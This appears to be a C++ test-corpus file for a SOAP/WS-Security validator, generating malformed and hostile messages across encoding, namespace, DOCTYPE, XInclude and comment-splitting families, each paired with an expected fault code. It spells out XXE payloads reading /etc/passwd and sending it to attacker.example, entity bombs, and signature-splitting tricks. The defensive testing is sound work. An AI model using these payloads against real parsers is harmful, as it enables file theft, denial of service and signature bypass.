#include "tests/hostile/corpus.hpp"

// What the bytes are, before anybody speaks of signatures: encodings, namespaces, DOCTYPE, XInclude; and comments inside what is signed.
namespace sluis::hostile {
namespace {

constexpr auto kMalformed = "SLU-1006";
constexpr auto kDoctype = "SLU-1007";
constexpr auto kNotSoap = "SLU-1009";
constexpr auto kEncoding = "SLU-1012";
constexpr auto kOdd = "SLU-2001";
constexpr auto kComment = "SLU-2016";

// ASCII text in a wider encoding.
std::string widened(const std::string& text, std::size_t width, bool big, const std::string& mark) {
  std::string out = mark;
  for (const char c : text) {
    std::string unit(width, '\0');
    unit[big ? width - 1 : 0] = c;
    out += unit;
  }
  return out;
}

std::string bytes(std::initializer_list<int> all) {
  std::string out;
  for (const int byte : all) out.push_back(static_cast<char>(byte));
  return out;
}

void encodings(Corpus& c) {
  constexpr auto kFamily = "encoding";
  const auto good = write(MessagePlan{}).message();
  const auto add = [&](const char* name, const std::string& text, const char* fault = kEncoding) { c.soap(kFamily, name, text, rule::kForm, fault); };
  const auto declared = [&](const std::string& encoding) { return "<?xml version=\"1.0\" encoding=\"" + encoding + "\"?>" + good; };
  const auto ill = [&](std::initializer_list<int> all) { return replaced(good, "<c:id S=\"ID-KMEHR\" SV=\"1.0\">1", "<c:id S=\"ID-KMEHR\" SV=\"1.0\">" + bytes(all)); };
  add("utf_16_little", widened(declared("UTF-16"), 2, false, bytes({0xFF, 0xFE})));
  add("utf_16_big", widened(declared("UTF-16"), 2, true, bytes({0xFE, 0xFF})));
  add("utf_16_little_without_mark", widened(good, 2, false, ""));
  add("utf_32_big", widened(good, 4, true, bytes({0, 0, 0xFE, 0xFF})));
  add("utf_16_declared_only", declared("UTF-16"));
  add("utf_7_declared", replaced(declared("UTF-7"), "<soap:Header>", "+ADw-soap:Header+AD4-"));
  add("utf_7_undeclared", replaced(good, "<soap:Envelope", "+ADw-soap:Envelope"), kMalformed);
  add("latin_1_declared", declared("ISO-8859-1"));
  add("windows_1252_declared", declared("windows-1252"));
  add("ebcdic_declared", declared("IBM037"));
  add("ucs_4_declared", declared("ISO-10646-UCS-4"));
  add("unknown_declared", declared("x-attacker"));
  add("mark_of_utf_16_on_utf_8", bytes({0xFF, 0xFE}) + good);
  add("two_marks", bytes({0xEF, 0xBB, 0xBF, 0xEF, 0xBB, 0xBF}) + good, kMalformed);
  add("half_a_mark", bytes({0xEF, 0xBB}) + good);
  add("overlong_angle_bracket", ill({0xC0, 0xBC}));
  add("overlong_in_three_bytes", ill({0xE0, 0x80, 0xBC}));
  add("overlong_in_four_bytes", ill({0xF0, 0x80, 0x80, 0xBC}));
  add("overlong_zero", ill({0xC0, 0x80}));
  add("surrogates", ill({0xED, 0xA0, 0xBD, 0xED, 0xB8, 0x80}));
  add("lonely_continuation", ill({0x80}));
  add("cut_sequence", ill({0xE2, 0x82}));
  add("beyond_unicode", ill({0xF4, 0x90, 0x80, 0x80}));
  add("five_bytes", ill({0xF8, 0x88, 0x80, 0x80, 0x80}));
  add("zero_byte", ill({0}), kMalformed);
  add("control_character", ill({1}), kMalformed);
  add("control_character_by_number", replaced(good, "1.corpus", "&#1;"), kMalformed);
  add("zero_by_number", replaced(good, "1.corpus", "&#0;"), kMalformed);
  add("noncharacter", ill({0xEF, 0xBF, 0xBF}), kMalformed);
  add("two_declarations", "<?xml version=\"1.0\"?><?xml version=\"1.0\" encoding=\"UTF-16\"?>" + good, kMalformed);
  add("declaration_after_blank", " <?xml version=\"1.0\"?>" + good, kMalformed);
  add("ends_in_the_middle", good.substr(0, good.size() / 2), kMalformed);
  add("two_documents", good + good, kMalformed);
  add("text_behind_the_end", good + "x", kMalformed);
  add("no_bytes", "", kMalformed);
  add("no_xml", "{\"soap\":true}", kMalformed);
}

void namespaces(Corpus& c) {
  constexpr auto kFamily = "namespace";
  const auto pieces = write(MessagePlan{});
  const auto good = pieces.message();
  const auto form = [&](const char* name, const std::string& text, const char* fault) { c.soap(kFamily, name, text, rule::kForm, fault); };
  form("envelope_of_soap_12", replaced(good, kSoap, "http://www.w3.org/2003/05/soap-envelope"), kNotSoap);
  form("envelope_in_no_namespace", replaced(replaced_last(good, "</soap:Envelope>", "</Envelope>"), "<soap:Envelope", "<Envelope"), kNotSoap);
  form("body_in_another_namespace", Pieces::envelope(pieces.security(), replaced(pieces.body, kSoap, "urn:x")), "SLU-1011");
  form("header_in_another_namespace", replaced(good, "<soap:Header>", "<soap:Header xmlns:soap=\"urn:x\">"), "SLU-1011");
  form("prefix_not_declared", replaced(good, "<c:patient>", "<y:patient>"), kMalformed);
  form("prefix_xml_bound_elsewhere", replaced(good, "<soap:Header>", "<soap:Header xmlns:xml=\"urn:x\">"), kMalformed);
  form("prefix_xmlns_declared", replaced(good, "<soap:Header>", "<soap:Header xmlns:xmlns=\"urn:x\">"), kMalformed);
  form("prefix_bound_to_nothing", replaced(good, "<soap:Header>", "<soap:Header xmlns:q=\"\">"), kMalformed);
  form("prefix_bound_twice", replaced(good, "<soap:Header>", "<soap:Header xmlns:q=\"urn:x\" xmlns:q=\"urn:y\">"), kMalformed);
  form("relative_name", replaced(good, "<soap:Header>", "<soap:Header xmlns:q=\"../x\">"), kMalformed);
  form("name_with_an_ampersand", replaced(good, "<soap:Header>", "<soap:Header xmlns:q=\"urn:x&amp;y\">"), kMalformed);
  form("attribute_twice_by_two_prefixes", replaced(good, "<soap:Header>", "<soap:Header xmlns:q=\"urn:x\" xmlns:r=\"urn:x\" q:a=\"1\" r:a=\"2\">"), kMalformed);
  const auto rule_of = [&](const char* name, const std::string& text, const char* rule, const char* fault) { c.soap(kFamily, name, text, rule, fault); };
  rule_of("security_of_another_version", replaced(good, kWsse, "http://docs.oasis-open.org/wss/oasis-wss-wssecurity-secext-1.1.xsd"), rule::kHeader, "SLU-1016");
  rule_of("timestamp_of_another_version", replaced(good, kWsu, "http://docs.oasis-open.org/wss/oasis-wss-wssecurity-utility-1.1.xsd"), rule::kHeader, kOdd);
  rule_of("payload_prefix_bound_elsewhere", replaced(good, "xmlns:p=\"http://www.ehealth.fgov.be/hubservices/protocol/v2\"", "xmlns:p=\"urn:x\""), rule::kSignature, "SLU-2008");
  rule_of("inner_prefix_bound_elsewhere", replaced(good, "<c:patient>", "<c:patient xmlns:c=\"urn:x\">"), rule::kSignature, "SLU-2008");
  rule_of("prefix_of_the_assertion_bound_elsewhere", replaced(good, "<saml:Conditions", "<saml:Conditions xmlns:saml=\"urn:x\""), rule::kHeader, kOdd);
  rule_of("prefix_of_the_signature_bound_elsewhere", replaced_last(good, "<ds:SignedInfo>", "<ds:SignedInfo xmlns:ds=\"urn:x\">"), rule::kAlgorithms, "SLU-2009");
  rule_of("id_bound_elsewhere", Pieces::envelope(pieces.security(), replaced(pieces.body, kWsu, "urn:x")), rule::kNodes, "SLU-2009");
  rule_of("default_namespace_on_the_payload", replaced(good, "<p:GetPatientConsentRequest ", "<p:GetPatientConsentRequest xmlns=\"urn:x\" y=\"\" "), rule::kSignature, "SLU-2008");
}

void doctypes(Corpus& c) {
  constexpr auto kFamily = "doctype";
  const auto good = write(MessagePlan{}).message();
  const auto add = [&](const char* name, const std::string& doctype, const std::string& inside = {}) {
    c.soap(kFamily, name, doctype + (inside.empty() ? good : replaced(good, "1.corpus", inside)), rule::kForm, kDoctype);
  };
  add("empty", "<!DOCTYPE soap:Envelope>");
  add("internal", "<!DOCTYPE soap:Envelope [<!ELEMENT x ANY>]>");
  add("external_system", "<!DOCTYPE soap:Envelope SYSTEM \"http://attacker.example/x.dtd\">");
  add("external_public", "<!DOCTYPE soap:Envelope PUBLIC \"-//X//Y\" \"http://attacker.example/x.dtd\">");
  add("external_file", "<!DOCTYPE soap:Envelope SYSTEM \"file:///etc/passwd\">");
  add("entity", "<!DOCTYPE e [<!ENTITY a \"85073099833\">]>", "&a;");
  add("entity_of_a_file", "<!DOCTYPE e [<!ENTITY a SYSTEM \"file:///etc/passwd\">]>", "&a;");
  add("entity_of_the_net", "<!DOCTYPE e [<!ENTITY a SYSTEM \"http://attacker.example/\">]>", "&a;");
  add("parameter_entity", "<!DOCTYPE e [<!ENTITY % a SYSTEM \"http://attacker.example/x.dtd\"> %a;]>");
  add("parameter_entity_that_sends_a_file", "<!DOCTYPE e [<!ENTITY % f SYSTEM \"file:///etc/passwd\"><!ENTITY % d \"<!ENTITY &#37; s SYSTEM 'http://attacker.example/?%f;'>\">%d;%s;]>");
  add("default_attribute", "<!DOCTYPE e [<!ATTLIST soap:Body wsu:Id CDATA \"body-1\">]>");
  add("attribute_of_type_id", "<!DOCTYPE e [<!ATTLIST x y ID #IMPLIED>]>");
  add("notation", "<!DOCTYPE e [<!NOTATION n SYSTEM \"x\">]>");
  add("entity_that_holds_itself", "<!DOCTYPE e [<!ENTITY a \"&b;\"><!ENTITY b \"&a;\">]>", "&a;");
  std::string laughs = "<!DOCTYPE e [<!ENTITY l0 \"lol\">";
  for (int i = 1; i < 10; ++i) {
    laughs += "<!ENTITY l" + std::to_string(i) + " \"";
    for (int j = 0; j < 10; ++j) laughs += "&l" + std::to_string(i - 1) + ";";
    laughs += "\">";
  }
  add("entity_bomb_of_ten_to_the_ninth", laughs + "]>", "&l9;");
  c.add({kFamily, "entity_bomb_by_size", "<!DOCTYPE e [<!ENTITY a \"{{100000*a}}\">]><x>{{100000*&a;}}</x>", rule::kForm, kDoctype, "consent", "recipe"});
  c.add({kFamily, "entity_bomb_by_parameters", "<!DOCTYPE e [<!ENTITY % a \"{{100000*a}}\">{{10000*%a;}}]><x></x>", rule::kForm, kDoctype, "consent", "recipe"});
  c.add({kFamily, "doctype_of_megabytes", "<!DOCTYPE e [{{300000*<!ELEMENT x ANY>}}]><x></x>", rule::kForm, kDoctype, "consent", "recipe"});
  c.soap(kFamily, "entity_without_doctype", replaced(good, "1.corpus", "&a;"), rule::kForm, kMalformed);
  c.soap(kFamily, "doctype_after_the_root", good + "<!DOCTYPE e>", rule::kForm, kMalformed);
  c.soap(kFamily, "doctype_in_the_body", replaced(good, "<c:patient>", "<!DOCTYPE e><c:patient>"), rule::kForm, kMalformed);
}

void includes(Corpus& c) {
  constexpr auto kFamily = "xinclude";
  const auto pieces = write(MessagePlan{});
  const auto include = [](const std::string& attributes) { return "<xi:include xmlns:xi=\"http://www.w3.org/2001/XInclude\" " + attributes + "></xi:include>"; };
  c.soap(kFamily, "file_in_the_body", replaced(pieces.message(), "<c:patient>", "<c:patient>" + include("href=\"file:///etc/passwd\" parse=\"text\"")), rule::kSignature, "SLU-2008");
  c.soap(kFamily, "net_as_the_body", Pieces::envelope(pieces.security(), body(include("href=\"http://attacker.example/body.xml\""))), rule::kSignature, "SLU-2008");
  c.soap(kFamily, "the_message_itself", replaced(pieces.message(), "<c:patient>", include("href=\"\" xpointer=\"xpointer(//*)\"") + "<c:patient>"), rule::kSignature, "SLU-2008");
  c.soap(kFamily, "in_the_security_header", Pieces::envelope(Pieces::security_of(pieces.timestamp + pieces.assertion + pieces.signature + include("href=\"file:///etc/passwd\"")), pieces.body), rule::kHeader, kOdd);
  c.soap(kFamily, "instead_of_the_assertion", Pieces::envelope(Pieces::security_of(pieces.timestamp + include("href=\"http://attacker.example/assertion.xml\"") + pieces.signature), pieces.body), rule::kHeader, kOdd);
  c.soap(kFamily, "as_root", include("href=\"http://attacker.example/envelope.xml\""), rule::kForm, kNotSoap);
}

// What is signed is the canonical form without comments: put in afterwards, they change nothing there, and much for who reads the first
// piece of a text.
void comments(Corpus& c) {
  constexpr auto kFamily = "splitting";
  const auto good = write(MessagePlan{}).message();
  const auto add = [&](const char* name, std::string_view what, std::string_view by) { c.soap(kFamily, name, replaced(good, what, by), rule::kHeader, kComment); };
  add("patient_by_a_comment", "85073099833", "850730<!-- -->99833");
  add("patient_by_an_empty_comment", "85073099833", "8507309<!---->9833");
  add("patient_behind_a_comment", "85073099833", "<!--62071498939-->85073099833");
  add("patient_before_a_comment", "85073099833", "85073099833<!--x-->");
  add("patient_by_an_instruction", "85073099833", "850730<?x y?>99833");
  add("author_by_a_comment", "<k:id S=\"INSS\" SV=\"1.0\">72051999381", "<k:id S=\"INSS\" SV=\"1.0\">7205<!-- -->1999381");
  add("category_by_a_comment", "persphysician", "pers<!-- -->physician");
  add("subject_by_a_comment", "<saml:NameIdentifier>CN=SSIN=72051999381", "<saml:NameIdentifier>CN=SSIN=7205<!-- -->1999381");
  add("attribute_value_by_a_comment", "<saml:AttributeValue>72051999381", "<saml:AttributeValue>7205<!-- -->1999381");
  add("attribute_value_by_an_instruction", "<saml:AttributeValue>72051999381", "<saml:AttributeValue>7205<?x?>1999381");
  add("boolean_by_a_comment", "<saml:AttributeValue>true", "<saml:AttributeValue>tr<!-- -->ue");
  add("method_by_a_comment", "cm:holder-of-key", "cm:<!-- -->holder-of-key");
  add("holder_certificate_by_a_comment", "<ds:X509Certificate>MII", "<ds:X509Certificate>M<!-- -->II");
  add("created_by_a_comment", "<wsu:Created>2026", "<wsu:Created>20<!-- -->26");
  add("expires_by_an_instruction", "<wsu:Expires>2026", "<wsu:Expires>20<?x?>26");
  add("key_identifier_by_a_comment", "#SAMLAssertionID\">_a1", "#SAMLAssertionID\">_<!-- -->a1");
  add("digest_by_a_comment", "<ds:DigestValue>", "<ds:DigestValue><!-- -->");
  add("signature_value_by_a_comment", "<ds:SignatureValue>", "<ds:SignatureValue><!-- -->");
  add("instruction_in_signed_info", "<ds:SignedInfo>", "<ds:SignedInfo><?x y?>");
  add("comment_between_the_parts", "<saml:Assertion", "<!-- --><saml:Assertion");
  add("instruction_between_the_parts", "<saml:Assertion", "<?x?><saml:Assertion");
  c.soap(kFamily, "attribute_name_by_a_character", replaced(good, "AttributeName=\"urn:be:fgov:person:ssin\"", "AttributeName=\"urn:be:fgov:person:ssin&#x200B;\""), rule::kAssertion, "SLU-2004");
  c.soap(kFamily, "patient_by_a_zero_width_character", replaced(good, "85073099833", "850730\xE2\x80\x8B" "99833"), rule::kSignature, "SLU-2008");
  c.soap(kFamily, "patient_by_an_element", replaced(good, "85073099833", "850730<c:x></c:x>99833"), rule::kSignature, "SLU-2008");
}

}  // namespace

void add_form(Corpus& corpus) {
  encodings(corpus);
  namespaces(corpus);
  doctypes(corpus);
  includes(corpus);
  comments(corpus);
}

}  // namespace sluis::hostile
